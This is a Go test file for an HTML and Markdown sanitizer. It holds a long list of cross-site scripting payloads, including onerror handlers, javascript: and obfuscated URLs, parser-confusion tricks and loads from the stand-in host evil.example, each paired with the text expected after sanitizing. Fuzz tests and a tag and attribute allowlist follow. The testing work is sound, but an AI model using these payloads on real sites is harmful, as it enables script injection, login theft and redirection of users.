package prose

import (
	"net/url"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"
)

// attacks are what has got through other sanitizers, or is meant to: each line a text, and what a reader may see of it at
// most.
var attacks = [][2]string{
	// What runs.
	{`<script>alert(1)</script>`, ``}, {`<scr<script>ipt>alert(1)</scr</script>ipt>`, `ipt>alert(1)ipt>`}, {`<SCRIPT SRC=//evil.example/x.js>`, ``},
	{`<img src=x onerror=alert(1)>`, `picture elsewhere: x`}, {`<img/src="x"/onerror=alert(1)>`, `picture elsewhere: x`}, {"<img src=x\nonerror\n=\nalert(1)>", `picture elsewhere: x`},
	{`<svg onload=alert(1)>`, ``}, {`<svg><script>alert(1)</script></svg>`, ``}, {`<details open ontoggle=alert(1)>x</details>`, `x`}, {`<body onload=alert(1)>x`, `x`},
	{`<input autofocus onfocus=alert(1)>x`, `x`}, {`<video><source onerror=alert(1)></video>x`, `x`}, {`<marquee onstart=alert(1)>x</marquee>`, `x`},
	{`<a onmouseover="alert(1)">x</a>`, `x`}, {`<b/onclick=alert(1)//>x`, `x`}, {`<p style="background:url(javascript:alert(1))" onclick=x>x</p>`, `x`},
	// What loads, leads away or asks.
	{`<iframe src="https://evil.example"></iframe>`, ``}, {`<iframe srcdoc="<script>alert(1)</script>">x</iframe>`, ``}, {`<object data="data:text/html,x">x</object>`, ``},
	{`<embed src="https://evil.example/x.swf">x`, `x`}, {`<base href="https://evil.example/">x`, `x`}, {`<meta http-equiv=refresh content="0;url=https://evil.example">x`, `x`},
	{`<link rel=stylesheet href=//evil.example/x.css>x`, `x`}, {`<style>@import "//evil.example"</style>x`, `x`}, {`<img srcset="//evil.example/x 2x" src="data:image/png;base64,AA==">x`, `x`},
	{`<picture><source srcset="//evil.example/x"><img src="//evil.example/y" alt="y"></picture>`, `picture elsewhere: y`}, {`<audio src=//evil.example/x autoplay>x</audio>`, `x`},
	{`<form action="//evil.example"><input name=password type=password><button formaction="javascript:alert(1)">x</button></form>`, `x`}, {`<isindex action=javascript:alert(1) type=image>`, ``},
	{`<table background="javascript:alert(1)"><tr><td background="//evil.example/x">x</table>`, `x`}, {`<a href="#x" ping="//evil.example" target=_blank download>x</a>`, `x`},
	// Addresses.
	{`<a href="javascript:alert(1)">x</a>`, `x`}, {"<a href=\"java\tscript:alert(1)\">x</a>", `x`}, {"<a href=\"\x01javascript:alert(1)\">x</a>", `x`}, {`<a href="jav&#x09;ascript&colon;alert(1)">x</a>`, `x`},
	{`<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58&#97">x</a>`, `x`}, {`<a href=" javascript:alert(1)">x</a>`, `x`}, {`<a href="JaVaScRiPt:alert(1)">x</a>`, `x`}, {`<a href="javascript&NewLine;:alert(1)">x</a>`, `x`},
	{`<a href="data:text/html,<script>alert(1)</script>">x</a>`, `x`}, {`<a href="vbscript:x">x</a>`, `x`}, {`<a href="//evil.example">x</a>`, `x`}, {`<a href="/trash">x</a>`, `x`}, {`<a href="\\evil.example">x</a>`, `x`}, {`<a href="https:evil.example">x</a>`, `x`},
	{`<img src="data:text/html;base64,AA==">`, `picture elsewhere: data of a type that is not shown`}, {`<img src="data:image/svg+xml;base64,AA==" alt=x>`, `picture elsewhere: x`}, {`<img src="data:image/png;base64,AA==&quot; onerror=x" alt=x>`, `picture elsewhere: x`},
	// What another parser reads in another way.
	{`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `picture elsewhere: x">`}, {`<noscript><style></noscript><img src=x onerror=alert(1)>`, `picture elsewhere: x`},
	{`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">`, ``}, {`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`, ``},
	{`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`, `picture elsewhere: 1">`}, {`<svg><![CDATA[><img src=x onerror=alert(1)>]]>`, ``}, {`<svg><style><img src=x onerror=alert(1)></style></svg>x`, `picture elsewhere: xx`},
	{`<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>`, ``}, {`<svg><foreignObject><p>x</p></foreignObject></svg>`, ``},
	{`<template><script>alert(1)</script></template>x`, `x`}, {`<template><template></template><img src=x onerror=alert(1)></template>x`, `x`}, {`<select><template><style></select><img src=x onerror=alert(1)></style>`, ``},
	{`<select><style></select><img src=x onerror=alert(1)></style>`, ``}, {`<select><option><script>alert(1)</script>x</select>`, `x`}, {`<plaintext><img src=x onerror=alert(1)>`, `<img src=x onerror=alert(1)>`},
	{`<xmp><img title="</xmp><img src=x onerror=alert(1)>">`, `<img title="picture elsewhere: x">`}, {`<textarea><img title="</textarea><img src=x onerror=alert(1)>">`, `<img title="picture elsewhere: x">`},
	{`<title><img title="</title><img src=x onerror=alert(1)>">`, `picture elsewhere: x">`}, {`<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>`, `picture elsewhere: x">`}, {`<noframes><a title="</noframes><img src=x onerror=alert(1)>"></noframes>`, `picture elsewhere: x">`},
	{`<!--><img src=x onerror=alert(1)>-->`, `picture elsewhere: x-->`}, {`<!-- --!><img src=x onerror=alert(1)> -->`, `picture elsewhere: x -->`}, {`<!--<!--><img src=x onerror=alert(1)>--> -->`, `picture elsewhere: x--> -->`}, {`<![CDATA[<img src=x onerror=alert(1)>]]>x`, `]]>x`},
	{`<?xml <img src=x onerror=alert(1)> ?>x`, ` ?>x`}, {`</p/><img src=x onerror=alert(1)>`, `picture elsewhere: x`}, {`<a href="#x"><table><a href="#y">x</a></table>y</a>`, `xy`}, {`<p><button><p><button><p>x`, `x`},
	// What leaves its place, or comes in another's name.
	{`</div></main><h1>x</h1>`, `x`}, {`<b>x`, `x`}, {`<p id=q name=csrf class=danger data-show>x</p>`, `x`}, {`<table><tr><td></table></table></div>x`, `x`}, {`<img src=x alt='"><script>alert(1)</script>'>`, `picture elsewhere: "><script>alert(1)</script>`},
	{`<p title='"><img src=x onerror=alert(1)>'>x</p>`, `x`}, {"<p title=`'\"><script>x</script>`>x</p>", "`>x"}, {`<a href="https://e.example/&quot;onclick=alert(1)">x</a>`, `x`}, {"<\x00script>alert(1)</script>", "<script>alert(1)"},
}

// TestAttacks holds what is made of HTML, and of the same text as Markdown, against the lists below.
func TestAttacks(t *testing.T) {
	for _, attack := range attacks {
		made, err := harmless(attack[0])
		if err != nil {
			t.Errorf("%s: %v", attack[0], err)
		}
		for _, wrong := range append(unlisted(made), unlisted(string(Rich(attack[0])))...) {
			t.Errorf("%s: %s", attack[0], wrong)
		}
		if seen, want := shown(t, made), attack[1]; strings.Join(strings.Fields(seen), " ") != strings.Join(strings.Fields(want), " ") {
			t.Errorf("%s: a reader sees %q and not %q", attack[0], seen, want)
		}
	}
	for _, text := range []string{"[x](javascript:alert(1))", "[x](java&#9;script:alert(1))", "[x](<javascript:alert(1)>)", "<javascript:alert(1)>", "[x]: javascript:alert(1)\n[x]", "![x](javascript:alert(1))", "[x](data:text/html;base64,AA==)", "[x](/trash)"} {
		made := string(Rich(text))
		if strings.Contains(made, "<a ") || strings.Contains(made, "<img") || len(unlisted(made)) > 0 {
			t.Errorf("%s: %s", text, made)
		}
	}
}

// FuzzHarmless: whatever a text is, what is made of it holds what is listed and nothing else, also when it is read again,
// which changes nothing.
func FuzzHarmless(f *testing.F) {
	for _, attack := range attacks {
		f.Add(attack[0])
	}
	f.Add("# A\n\n- [x] b\n- [ ] c\n\n| a | b |\n|:-:|--:|\n| 1 | 2 |\n\n```go\nx\n```\n~~d~~ <https://e.example> ![p](data:image/png;base64,AA==)\n\n<ol start=3><li value=9>x</ol><details open><summary>s</summary></details>")
	f.Fuzz(func(t *testing.T, text string) {
		made := string(Rich(text))
		for _, wrong := range unlisted(made) {
			t.Errorf("%q: %s, in %s", text, wrong, made)
		}
		Excerpt(text)
	})
}

// What a text may have, once more: these lists do not know those of the code.
var (
	listed = strings.Fields("a abbr acronym article aside b bdi bdo blockquote br caption cite code col colgroup dd del details dfn div dl dt em figcaption figure h3 h4 h5 h6 " +
		"hgroup hr i img input ins kbd li mark meter ol p pre progress q rp rt ruby s samp section small span strike strong sub summary sup table tbody td tfoot th thead time tr tt u ul var wbr")
	attributes = strings.Fields("title lang dir")
	more       = map[string]string{"a": "href rel", "img": "src alt width height", "input": "type checked disabled aria-label", "details": "open", "code": "class", "span": "class", "td": "colspan rowspan span", "th": "colspan rowspan span",
		"col": "span colspan rowspan", "colgroup": "span colspan rowspan", "ol": "start", "li": "value", "time": "datetime", "del": "datetime", "ins": "datetime",
		"meter": "value min max low high optimum", "progress": "value min max low high optimum"}
)

// unlisted is what HTML has that it should not have, as a browser reads it with scripts and without.
func unlisted(made string) (wrong []string) {
	for _, scripts := range []bool{true, false} {
		nodes, err := html.ParseFragmentWithOptions(strings.NewReader(made), &html.Node{Type: html.ElementNode, Data: "main", DataAtom: atom.Main}, html.ParseOptionEnableScripting(scripts))
		if err != nil {
			return append(wrong, err.Error())
		}
		var again strings.Builder
		for _, n := range nodes {
			if err := html.Render(&again, n); err != nil {
				wrong = append(wrong, err.Error())
			}
			wrong = append(wrong, unlistedIn(n)...)
			for d := range n.Descendants() {
				wrong = append(wrong, unlistedIn(d)...)
			}
		}
		if again.String() != made {
			wrong = append(wrong, "read again it is "+again.String())
		}
	}
	return wrong
}

func unlistedIn(n *html.Node) (wrong []string) {
	switch {
	case n.Type == html.TextNode:
		return nil
	case n.Type != html.ElementNode || n.Namespace != "" || !slices.Contains(listed, n.Data):
		return []string{"a node " + n.Data}
	}
	for _, a := range n.Attr {
		if a.Namespace != "" || !slices.Contains(attributes, a.Key) && !slices.Contains(strings.Fields(more[n.Data]), a.Key) {
			wrong = append(wrong, n.Data+" has "+a.Key)
		}
		u, err := url.Parse(a.Val)
		switch {
		case a.Key == "src" && !strings.HasPrefix(a.Val, "data:image/"), a.Key == "src" && strings.HasPrefix(a.Val, "data:image/svg"):
			wrong = append(wrong, "it loads "+a.Val)
		case a.Key == "href" && (err != nil || u.Scheme != "http" && u.Scheme != "https" && u.Scheme != "mailto" && !strings.HasPrefix(a.Val, "#")):
			wrong = append(wrong, "it leads to "+a.Val)
		}
	}
	return wrong
}

func shown(t *testing.T, made string) string {
	t.Helper()
	n, err := parse(made)
	if err != nil {
		t.Fatal(err)
	}
	var words strings.Builder
	for d := range n.Descendants() {
		if d.Type == html.TextNode {
			words.WriteString(d.Data)
		}
	}
	return words.String()
}
